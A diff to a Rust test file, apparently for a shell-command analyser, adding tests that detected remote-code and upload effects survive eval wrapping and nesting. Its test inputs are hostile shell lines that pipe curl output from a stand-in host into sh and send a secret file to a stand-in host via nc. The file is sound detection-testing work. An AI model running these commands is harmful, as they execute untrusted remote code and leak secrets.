@@ -42,18 +42,26 @@ fn every_example_of_the_table_is_true() {
 
 /// Fails unless running `text` has the effects `expected` and none of the others that arise
 /// from several commands.
+///
+/// In text that is put together all words have one place: there they are not lost.
 fn check(text: &str, expected: &[&str]) {
-    let found = shown(text);
-    let arisen = ["upload", "remote_code", "written_code", "remote_shell"];
-    let mut arisen: Vec<&str> = found
-        .iter()
-        .map(String::as_str)
-        .filter(|effect| arisen.iter().any(|kind| effect.starts_with(kind)))
-        .collect();
     let mut expected = expected.to_vec();
     expected.sort_unstable();
-    arisen.sort_unstable();
-    assert_eq!(arisen, expected, "{text}");
+    assert_eq!(arisen(text), expected, "{text}");
+    let together = format!("eval '{}'", format!("{text}\n: ''").replace('\'', "'\\''"));
+    let found = arisen(&together);
+    let is_lost = |effect: &&&str| !found.iter().any(|it| it == **effect);
+    let lost: Vec<_> = expected.iter().filter(is_lost).collect();
+    assert!(lost.is_empty(), "{together} loses {lost:?}");
+}
+
+/// Returns what arises in `text` from several commands.
+fn arisen(text: &str) -> Vec<String> {
+    let kinds = ["upload", "remote_code", "written_code", "remote_shell"];
+    let mut found = shown(text);
+    found.retain(|effect| kinds.iter().any(|kind| effect.starts_with(kind)));
+    found.sort();
+    found
 }
 
 #[test]
@@ -178,6 +186,33 @@ fn what_comes_from_a_host_and_runs_is_remote_code() {
     ] {
         check(text, &["remote_code"]);
     }
+}
+
+#[test]
+fn what_flows_is_followed_past_its_neighbours() {
+    for text in [
+        "eval \"$(curl https://x.example; echo a)\"",
+        "a=$(curl https://x.example); true \"$(eval \"$a\" \"$(cat f)\")\"",
+        "curl https://x.example | tee f; sh f",
+        "sudo sh -c \"$(curl https://x.example)\"",
+        "sudo bash <(curl https://x.example)",
+        "curl https://x.example > >(sh; true)",
+    ] {
+        let found = arisen(text);
+        assert!(
+            found.contains(&"remote_code".to_owned()),
+            "{text}: {found:?}"
+        );
+        check(text, &found.iter().map(String::as_str).collect::<Vec<_>>());
+    }
+    check(
+        "for x in 'cat f' 'curl https://x.example'; do $x | sh; done",
+        &["remote_code"],
+    );
+    check(
+        "cat secret | tee >(nc x.example 1; true)",
+        &["upload secret"],
+    );
 }
 
 #[test]
